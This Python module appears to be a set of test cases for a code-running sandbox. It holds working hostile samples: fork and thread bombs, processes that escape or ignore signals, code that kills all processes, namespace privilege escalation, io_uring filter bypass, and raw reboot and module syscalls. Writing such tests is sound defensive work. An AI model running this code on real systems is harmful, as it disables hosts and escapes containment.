"""Processes: too many, that hide, that kill or bend others, and calls that reach for more of the kernel."""

from .attack import harm

__all__ = ["ATTACKS"]

ATTACKS = (
    harm(
        "fork-bomb",
        "forks without end",
        """
        import posix

        def solve(*args):
            while True:
                try:
                    posix.fork()
                except OSError:
                    pass
        """,
    ),
    harm(
        "thread-bomb",
        "starts threads without end",
        """
        import _thread
        import time

        def solve(*args):
            while True:
                try:
                    _thread.start_new_thread(time.sleep, (60,))
                except RuntimeError:
                    time.sleep(0.01)
        """,
    ),
    harm(
        "zombies",
        "leaves as many dead children as it may",
        """
        import posix

        def solve(*args):
            try:
                while True:
                    if posix.fork() == 0:
                        posix._exit(0)
            except OSError:
                return 0
        """,
    ),
    harm(
        "daemon",
        "forks twice into a session of its own, and stays",
        """
        import posix
        import time

        def solve(*args):
            if posix.fork() == 0:
                posix.setsid()
                if posix.fork() == 0:
                    while True:
                        time.sleep(1)
                posix._exit(0)
            return 0
        """,
    ),
    harm(
        "runs-away",
        "goes on forking away from whoever hunts it",
        """
        import posix

        def solve(*args):
            if posix.fork() == 0:
                while True:
                    try:
                        if posix.fork():
                            posix._exit(0)
                        posix.setsid()
                    except OSError:
                        pass
            return 0
        """,
    ),
    harm(
        "ignores-signals",
        "blocks and ignores every signal, and then works for ever",
        """
        import signal

        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
            try:
                signal.signal(number, signal.SIG_IGN)
            except OSError:  # those that the C library keeps
                pass

        def solve(*args):
            while True:
                pass
        """,
    ),
    harm(
        "keeps-the-pipes",
        "leaves a process behind that holds its output and descriptors open",
        """
        import posix
        import time

        def solve(*args):
            if posix.fork() == 0:
                posix.setsid()
                time.sleep(600)
            posix._exit(0)
        """,
    ),
    harm(
        "kills-its-parent",
        "kills its parent, and its parent's group",
        """
        import posix
        import time

        def solve(*args):
            parent = posix.getppid()
            for step in (lambda: posix.kill(parent, 9), lambda: posix.killpg(posix.getpgid(parent), 9)):
                if parent:
                    try:
                        step()
                    except OSError:
                        pass
            return 0
        """,
    ),
    harm(
        "kills-everybody",
        "kills its group, all that it may, and one process outside",
        """
        import posix

        def solve(*args):
            for pid in (@PID@, 1, -1, 0):
                try:
                    posix.kill(pid, 9)
                except OSError:
                    pass
            return 0
        """,
    ),
    harm(
        "stops-its-parent",
        "stops its parent, its group and one process outside, with SIGSTOP",
        """
        import posix
        import time

        def solve(*args):
            for pid in (@PID@, posix.getppid() or 1, -1):
                try:
                    posix.kill(pid, 19)
                except OSError:
                    pass
            time.sleep(60)
        """,
    ),
    harm(
        "bends-its-parent",
        "slows its parent, and everybody of its user, by priorities and limits",
        """
        import ctypes
        import posix
        import resource

        libc = ctypes.CDLL(None)

        def solve(*args):
            for pid in (posix.getppid(), 1, @PID@):
                for step in (
                    lambda: posix.setpriority(posix.PRIO_PROCESS, pid, 19),
                    lambda: posix.setpriority(posix.PRIO_USER, 0, 19),
                    lambda: posix.sched_setscheduler(pid, posix.SCHED_IDLE, posix.sched_param(0)),
                    lambda: posix.sched_setaffinity(pid, {0}),
                    lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
                    lambda: posix.sched_setscheduler(0, posix.SCHED_FIFO, posix.sched_param(99)),
                ):
                    try:
                        step()
                    except OSError:
                        pass
                libc.syscall(251, 1, pid, 3 << 13)  # ioprio_set: idle
            return 0
        """,
    ),
    harm(
        "namespaces",
        "nests user and other namespaces to become root in them",
        """
        import ctypes
        import io
        import posix

        libc = ctypes.CDLL(None)

        def solve(*args):
            for flags in (0x10000000, 0x10020000, 0x20000000, 0x40000000, 0x02000000, 0x08000000, 0x80):
                for _ in range(3):
                    libc.unshare(flags)
            if libc.syscall(56, 0x10000011, 0, 0, 0, 0) == 0:  # clone into a user namespace
                posix._exit(0)
            for name in ("setgroups", "uid_map", "gid_map"):
                try:
                    with io.open(f"/proc/self/{name}", "w") as file:
                        file.write("deny" if name == "setgroups" else "0 0 1")
                except OSError:
                    pass
            for name in ("user", "mnt", "net", "pid"):
                try:
                    fd = posix.open(f"/proc/1/ns/{name}", posix.O_RDONLY)
                except OSError:
                    continue
                libc.setns(fd, 0)
            return 0
        """,
    ),
    harm(
        "keyrings",
        "stores and reads keys in the kernel's keyrings",
        """
        import ctypes

        libc = ctypes.CDLL(None)

        def solve(*args):
            for ring in (-1, -2, -3, -4, -5):
                for number in range(50):
                    libc.syscall(248, b"user", b"@MARK@-%d" % number, b"x" * 1000, 1000, ring)  # add_key
                libc.syscall(250, 1, b"@MARK@")  # keyctl: join a session
                libc.syscall(249, b"user", b"@MARK@-0", None, ring)  # request_key
            return 0
        """,
    ),
    harm(
        "io-uring",
        "opens files and sockets by io_uring, past filters of system calls",
        """
        import ctypes

        libc = ctypes.CDLL(None)

        def solve(*args):
            rings = []
            for entries in (1, 4096):
                room = ctypes.create_string_buffer(120)
                rings.append(libc.syscall(425, entries, room))
            for ring in rings:
                if ring >= 0:
                    libc.syscall(426, ring, 1, 0, 0, None, 0)
            return 0
        """,
    ),
    harm(
        "rare-calls",
        "calls what a solution has no use for: bpf, perf, userfaultfd, modules, reboot, swap, the clock",
        """
        import ctypes

        libc = ctypes.CDLL(None)
        RARE = (321, 298, 323, 175, 313, 246, 169, 167, 168, 227, 164, 159, 163, 179, 153, 155, 161, 172, 173, 103)

        def solve(*args):
            for number in RARE:
                libc.syscall(number, 0, 0, 0, 0, 0)
            return 0
        """,
    ),
)
